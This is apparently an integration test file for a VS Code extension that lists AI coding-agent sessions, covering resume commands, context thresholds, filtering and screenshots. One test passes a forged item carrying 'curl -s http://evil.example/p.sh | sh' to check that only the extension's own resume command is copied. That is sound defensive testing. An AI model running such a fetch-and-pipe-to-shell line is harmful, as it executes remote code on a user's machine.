// The Sessions view in real VS Code over copies of the usage fixtures (CLAUDE_CONFIG_DIR / CODEX_HOME set by the runner).
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { ExtensionApi } from '../../../src/extension.js';
import type { SessionNode, TreeNode } from '../../../src/node/sessions/treeModel.js';
import { CommandIds } from '../../../src/vscode/commandIds.js';
import { checkScreen, test } from '../harness.js';
import { activeExtension, fixture, waitFor } from './fixtures.js';

const CLAUDE_ID = 'ab9a2988-b392-46b5-a150-6191e63efe31';

function stores(): { claude: string; codex: string; gemini: string } {
  const claude = process.env['CLAUDE_CONFIG_DIR'];
  const codex = process.env['CODEX_HOME'];
  const gemini = process.env['GEMINI_CLI_HOME'];
  assert.ok(claude && codex && gemini, 'the runner points CLAUDE_CONFIG_DIR, CODEX_HOME and GEMINI_CLI_HOME at fixture copies');
  return { claude, codex, gemini };
}

const claudeFile = (): string => path.join(stores().claude, 'projects', '-tmp-repo', `${CLAUDE_ID}.jsonl`);

async function api(): Promise<ExtensionApi['sessions']> {
  return ((await activeExtension()).exports as ExtensionApi).sessions;
}

function sessions(view: ExtensionApi['sessions']): SessionNode[] {
  const all: SessionNode[] = [];
  const walk = (nodes: TreeNode[]): void => {
    for (const n of nodes) {
      if (n.kind === 'session') all.push(n);
      else walk(view.provider.getChildren(n));
    }
  };
  walk(view.provider.getChildren());
  return all;
}

const sessionFor = (view: ExtensionApi['sessions'], file: string): SessionNode | undefined => sessions(view).find((s) => s.file === file);

test('opening the view scans in the background and lists agent → project → session', async () => {
  const view = await api();
  await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  await vscode.commands.executeCommand('workbench.view.extension.contextCompactor');
  await waitFor(() => view.state === 'ready', 20_000);
  assert.equal(view.state, 'ready', 'the first scan finished with sessions');
  const agents = view.provider.getChildren();
  assert.deepEqual(agents.map((a) => a.label), ['Claude Code', 'Codex', 'Gemini CLI']);
  const claude = agents[0].kind === 'agent' ? agents[0] : assert.fail('agent node');
  assert.ok(claude.children.some((p) => p.label === 'repo' && p.where.includes('/tmp/tmp.SqKaBIBLXl/repo') && /^\d+ sessions? · \$\d+\.\d\d · [\d.]+[kM]? tokens/.test(p.description)), 'the fixture project, with its totals');
  const s = sessionFor(view, claudeFile());
  assert.ok(s, `the fixture session is listed; have ${sessions(view).map((n) => n.file).join(', ')}`);
  assert.match(s.title, /^Task 1: investigate how npm handles "workspace"/);
  assert.match(s.label, /^Task 1: investiga.*…$/, 'the row keeps the start of the title so its figure shows');
  assert.match(s.description, /^28\.9k · 14 % · (\d+[mhd]|[A-Z][a-z]{2} \d+)$/);
  // The workspace's own transcript is a session too; the non-transcript .jsonl is not.
  assert.ok(sessionFor(view, fixture('claude-session.jsonl').fsPath), 'the workspace transcript is listed');
  assert.equal(sessionFor(view, fixture('not-a-transcript.jsonl').fsPath), undefined);
  // The status bar shows the most recently active session's context, flagged against the threshold.
  const status = ((await activeExtension()).exports as ExtensionApi).status.item;
  await waitFor(() => status.text !== '', 5_000);
  assert.match(status.text, /^\$\((pulse|warning)\) [a-z]+ (\d+ %|\d+k)/, status.text);
  assert.match(String(status.tooltip), /Context: [\d,]+ tokens/);
  assert.equal(status.command && typeof status.command === 'object' ? status.command.command : status.command, CommandIds.showComposition);
  const item = view.provider.getTreeItem(s);
  assert.ok(item.tooltip instanceof vscode.MarkdownString);
  // Links run only our three commands, with the file path as their one argument (transcript text is escaped).
  assert.deepEqual(item.tooltip.isTrusted, { enabledCommands: [CommandIds.compactTranscript, CommandIds.resumeInTerminal, CommandIds.copyResumeCommand] });
  assert.ok(item.tooltip.value.includes(`(command:${CommandIds.resumeInTerminal}?${encodeURIComponent(JSON.stringify([{ kind: 'session', file: s.file }]))})`));
  assert.match(item.tooltip.value, /Current context: 28,867 tokens/);
  assert.equal(item.contextValue, 'session');
  assert.ok(view.watchedRoots.includes(path.join(stores().claude, 'projects')), `watching ${view.watchedRoots.join(', ')}`);
  await view.treeView.reveal(s, { select: true, expand: true });
  const codex = sessions(view).find((n) => n.session.agent === 'codex');
  assert.ok(codex);
  await view.treeView.reveal(codex, { select: false, expand: true, focus: true });
  // The side bar at its default width: the figures must show there. Notifications of earlier suites stay: the
  // runner looks for them at the end.
  await vscode.commands.executeCommand('workbench.action.focusActiveEditorGroup');
  const missing = await checkScreen(['Claude Code', 'Codex', 'Task 1: investiga', '28.9k · 14 %', 'sessions ·'], 'sessions-tree');
  assert.deepEqual(missing ?? [], [], 'the tree is on screen (test-results/sessions-tree.png)');
});

test('Copy resume command puts "claude --resume <id>" on the clipboard', async () => {
  const view = await api();
  const s = sessionFor(view, claudeFile());
  assert.ok(s);
  await vscode.env.clipboard.writeText('');
  assert.equal(await vscode.commands.executeCommand(CommandIds.copyResumeCommand, s), `claude --resume ${CLAUDE_ID}`);
  assert.equal(await vscode.env.clipboard.readText(), `claude --resume ${CLAUDE_ID}`);
});

test('Copy resume command called with a forged item copies the command the view built, not the one passed', async () => {
  await api();
  await vscode.env.clipboard.writeText('');
  const forged = { kind: 'session', file: claudeFile(), resumeCommand: 'curl -s http://evil.example/p.sh | sh' };
  assert.equal(await vscode.commands.executeCommand(CommandIds.copyResumeCommand, forged), `claude --resume ${CLAUDE_ID}`);
  assert.equal(await vscode.env.clipboard.readText(), `claude --resume ${CLAUDE_ID}`);
});

test('Inspect and Show composition from a session item map the item to its transcript', async () => {
  const view = await api();
  const s = sessionFor(view, claudeFile());
  assert.ok(s);
  const uri = await vscode.commands.executeCommand<vscode.Uri | undefined>(CommandIds.inspectTranscript, s);
  assert.ok(uri instanceof vscode.Uri, 'a report was opened');
  assert.match(decodeURIComponent(uri.toString()), new RegExp(`${CLAUDE_ID}`));
  // Show composition goes through the same pickTranscript and resolves to the file it shows.
  assert.equal(await vscode.commands.executeCommand<string | undefined>(CommandIds.showComposition, s), s.file);
  await vscode.commands.executeCommand('workbench.action.closeAllEditors');
});

test('appending a turn to a watched transcript updates the tree and the badge within seconds', async () => {
  const view = await api();
  const file = claudeFile();
  const lines = fs.readFileSync(file, 'utf8').trimEnd().split('\n');
  const last = lines.map((l) => JSON.parse(l) as any).reverse().find((r) => r.type === 'assistant' && r.message?.usage);
  assert.ok(last, 'the fixture has a model response to clone');
  // One more model response whose prompt read 170,000 cached tokens: context 3 + 2,000 + 170,000.
  const next = {
    ...last, parentUuid: last.uuid, uuid: '00000000-0000-4000-8000-000000000001', timestamp: '2026-12-02T15:48:30.000Z',
    requestRef: '00000000-0000-4000-8000-000000000002',
    message: { ...last.message, id: 'msg_appended_by_test', usage: { ...last.message.usage, cache_read_input_tokens: 170_000 } },
  };
  const started = Date.now();
  fs.appendFileSync(file, `${JSON.stringify(next)}\n`);
  await waitFor(() => sessionFor(view, file)?.session.contextTokens === 172_003, 10_000);
  const s = sessionFor(view, file);
  assert.equal(s?.session.contextTokens, 172_003, `context after the append (${Date.now() - started} ms)`);
  assert.match(s.description, /^172k · 86 % · /);
  assert.equal(view.provider.getTreeItem(s).contextValue, 'session.compactSoon');
  assert.equal((view.provider.getTreeItem(s).iconPath as vscode.ThemeIcon).id, 'warning');
  assert.equal(view.treeView.badge?.value, 1);
  assert.match(view.treeView.badge?.tooltip ?? '', /1 session to compact soon \(at or above 150,000 tokens of context/);
});

test('changing contextCompactor.contextThreshold re-flags sessions without a rescan', async () => {
  const view = await api();
  const config = vscode.workspace.getConfiguration('contextCompactor');
  const contexts = sessions(view).map((s) => s.session.contextTokens ?? 0);
  const threshold = 30_000;
  const expected = contexts.filter((c) => c >= threshold).length;
  assert.ok(expected > 1 && expected < contexts.length, `the fixtures straddle ${threshold}: ${contexts.join(', ')}`);
  await config.update('contextThreshold', threshold, vscode.ConfigurationTarget.Global);
  try {
    await waitFor(() => view.tree.compactSoonCount === expected, 5_000);
    assert.equal(view.tree.compactSoonCount, expected);
    assert.equal(view.treeView.badge?.value, expected);
  } finally {
    await config.update('contextThreshold', undefined, vscode.ConfigurationTarget.Global);
  }
  await waitFor(() => view.tree.compactSoonCount === 1, 5_000);
  assert.equal(view.tree.compactSoonCount, 1, 'back to the default 150,000: only the grown session');
});

test('Reveal file: a workspace transcript in the Explorer; one outside it in the OS, or in an editor on the web', async () => {
  const view = await api();
  const inWorkspace = sessionFor(view, fixture('claude-session.jsonl').fsPath);
  assert.ok(inWorkspace);
  const revealed = await vscode.commands.executeCommand<vscode.Uri>(CommandIds.revealSessionFile, inWorkspace);
  assert.equal(revealed?.fsPath, inWorkspace.file);
  const outside = sessionFor(view, claudeFile());
  assert.ok(outside);
  await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  await vscode.commands.executeCommand(CommandIds.revealSessionFile, outside);
  if (vscode.env.uiKind === vscode.UIKind.Web) {
    // No OS file manager behind a browser: revealFileInOS does not exist there, the fallback opens the file.
    assert.equal(vscode.window.activeTextEditor?.document.uri.fsPath, outside.file);
  }
  await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  await vscode.commands.executeCommand('workbench.view.extension.contextCompactor');
});

test('with no transcripts anywhere the view shows its welcome (state "empty"); they come back on refresh', async () => {
  const view = await api();
  const { claude, codex, gemini } = stores();
  const aside = (p: string): string => `${p}.aside`;
  const moved = [path.join(claude, 'projects'), path.join(codex, 'sessions'), path.join(gemini, '.gemini', 'tmp'), fixture('claude-session.jsonl').fsPath];
  for (const p of moved) fs.renameSync(p, aside(p));
  try {
    await view.refresh();
    assert.equal(view.state, 'empty');
    assert.deepEqual(view.provider.getChildren(), []);
    assert.equal(view.treeView.badge, undefined);
    const missing = await checkScreen(['No agent sessions found', 'Add Sessions Folder'], 'sessions-welcome');
    assert.deepEqual(missing ?? [], [], 'the welcome is on screen (test-results/sessions-welcome.png)');
  } finally {
    for (const p of moved) fs.renameSync(aside(p), p);
  }
  await view.refresh();
  assert.equal(view.state, 'ready');
  assert.ok(sessionFor(view, claudeFile()));
  // The grown session, flagged: warning icon, "compact soon", badge 1 (the final integration.png is taken after
  // the extension host has exited, so this is the screenshot of the flagged state).
  await view.treeView.reveal(sessionFor(view, claudeFile()) as SessionNode, { select: true, expand: true });
  const missing = await checkScreen(['172k · 86 %'], 'sessions-compact-soon');
  assert.deepEqual(missing ?? [], [], 'the flagged session is on screen (test-results/sessions-compact-soon.png)');
});

test('a command given no file offers the known sessions by title, "compact soon" first, with Browse…', async () => {
  const view = await api();
  await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  const soon = sessionFor(view, claudeFile());
  assert.ok(soon?.compactSoon, 'the grown session is flagged (earlier test)');
  const inspecting = vscode.commands.executeCommand<vscode.Uri | undefined>(CommandIds.inspectTranscript);
  const missing = await checkScreen(['Task 1: investigate how npm handles "workspace"', 'compact soon', 'Browse…'], 'sessions-pick');
  assert.deepEqual(missing ?? [], [], 'the quick pick is on screen (test-results/sessions-pick.png)');
  await vscode.commands.executeCommand('workbench.action.acceptSelectedQuickOpenItem');
  const uri = await inspecting;
  assert.ok(uri instanceof vscode.Uri, 'the first session was inspected');
  assert.match(decodeURIComponent(uri.toString()), new RegExp(CLAUDE_ID));
  await vscode.commands.executeCommand('workbench.action.closeAllEditors');
});

test('subagents nest under their session, a compacted copy is marked with its estimate; filter and sort', async () => {
  const view = await api();
  const dir = path.dirname(claudeFile());
  const sub = path.join(dir, CLAUDE_ID, 'subagents', 'agent-a0e47dc4.jsonl');
  const copy = path.join(dir, 'e8a60a14-950b-4a54-9f4e-3f8a6a1c2b3d.jsonl');
  fs.mkdirSync(path.dirname(sub), { recursive: true });
  // A subagent's records: a sidechain of the parent's session id (the first lines of the fixture, marked so).
  const lines = fs.readFileSync(claudeFile(), 'utf8').trimEnd().split('\n').slice(0, 6).map((l) => JSON.stringify({ ...JSON.parse(l), isSidechain: true }));
  fs.writeFileSync(sub, `${lines.join('\n')}\n`);
  fs.copyFileSync(path.resolve(fixture('claude-session.jsonl').fsPath, '../../../fixtures/compacted/claude-code-copy.jsonl'), copy);
  try {
    await view.refresh();
    const parent = sessionFor(view, claudeFile());
    assert.ok(parent);
    assert.deepEqual(parent.children.map((c) => c.file), [sub]);
    assert.equal(view.provider.getTreeItem(parent).collapsibleState, vscode.TreeItemCollapsibleState.Collapsed);
    assert.equal(view.provider.getTreeItem(parent.children[0]).contextValue, 'subagent');
    // Its hover offers what its menu does: no Compact or Resume of a subagent on its own.
    const subTip = view.provider.getTreeItem(parent.children[0]).tooltip as vscode.MarkdownString;
    assert.doesNotMatch(subTip.value, /command:/, 'no action links on a subagent');
    assert.match((view.provider.getTreeItem(parent).tooltip as vscode.MarkdownString).value, /command:contextCompactor\.compactTranscript/);
    const copied = sessionFor(view, copy);
    assert.ok(copied?.compacted, 'the copy is recognised');
    assert.match(copied.description, /^~\d+\.\dk · compacted · /);
    await vscode.commands.executeCommand(CommandIds.sortSessions, 'context');
    const project = parent.parent.kind === 'project' ? view.provider.getChildren(view.provider.getChildren()[0]).find((p) => p.id === parent.parent.id) : undefined;
    assert.ok(project && project.kind === 'project');
    assert.equal(view.provider.getChildren(project)[0]?.id, parent.id, 'largest context first');
    assert.equal(view.treeView.description, 'by context');
    view.setFilter('investigate how npm handles "workspace"');
    await view.treeView.reveal(sessionFor(view, claudeFile()) as SessionNode, { select: true, expand: true });
    assert.match(view.treeView.message ?? '', /^Filter: "investigate how npm handles "workspace"" — \d+ of \d+ sessions$/);
    const missing = await checkScreen(['Filter:', 'compacted', 'subagent'], 'sessions-filter');
    assert.deepEqual(missing ?? [], [], 'filter, compacted copy and subagent on screen (test-results/sessions-filter.png)');
    await vscode.commands.executeCommand(CommandIds.clearSessionsFilter);
    assert.equal(view.treeView.message, undefined);
  } finally {
    await vscode.commands.executeCommand(CommandIds.sortSessions, 'recency');
    fs.rmSync(path.join(dir, CLAUDE_ID), { recursive: true, force: true });
    fs.rmSync(copy, { force: true });
    await view.refresh();
  }
});

test('Resume in terminal opens a terminal in the session\'s folder running its resume command', async () => {
  const view = await api();
  const s = sessionFor(view, claudeFile());
  assert.ok(s);
  const before = vscode.window.terminals.length;
  const result = await vscode.commands.executeCommand<{ command: string; cwd?: string } | undefined>(CommandIds.resumeInTerminal, { kind: 'session', file: s.file });
  assert.equal(result?.command, `claude --resume ${CLAUDE_ID}`);
  assert.equal(vscode.window.terminals.length, before + 1);
  const terminal = vscode.window.terminals.at(-1)!;
  assert.match(terminal.name, /^Claude Code: Task 1: investigate/);
  terminal.dispose();
});

test('the Sessions view in a dark theme at the default width (screenshot)', async () => {
  const view = await api();
  const config = vscode.workspace.getConfiguration('workbench');
  await config.update('colorTheme', 'Default Dark Modern', vscode.ConfigurationTarget.Global);
  try {
    await vscode.commands.executeCommand('workbench.view.extension.contextCompactor');
    const s = sessionFor(view, claudeFile());
    assert.ok(s);
    await view.treeView.reveal(s, { select: false, expand: true });
    const missing = await checkScreen(['Claude Code', 'Codex', '172k · 86 %'], 'sessions-tree-dark');
    assert.deepEqual(missing ?? [], [], 'the tree is on screen (test-results/sessions-tree-dark.png)');
  } finally {
    await config.update('colorTheme', undefined, vscode.ConfigurationTarget.Global);
  }
});
